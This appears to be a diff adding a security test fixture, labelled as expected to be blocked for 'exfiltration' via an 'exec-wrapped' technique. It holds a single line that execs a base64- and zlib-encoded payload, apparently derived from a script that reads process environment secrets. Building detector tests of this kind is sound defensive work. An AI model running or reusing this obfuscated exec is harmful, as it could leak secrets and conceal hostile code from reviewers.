@@ -1,0 +1,3 @@
+# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/proc_environ.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJw1jTsOwyAQRHtOsSINliywY6VIJC6ROg221zKS+QSWnD8QOdUUb+bNBZ5o1gy0I8QUFswZ0H9sCt6hJ9hScKAaAeNXKPEIrW5JMutiSAQJ3wUzZcbOHWgIEb3gv5nKeGzqRLwHnmbeyVRPRYt4mAXFzF9DZTU879jfKGMhwXeimB9KXYdJDnIcJ3lvulpfDRl9mnsg6zAU0rfuC2FwRq4=')))
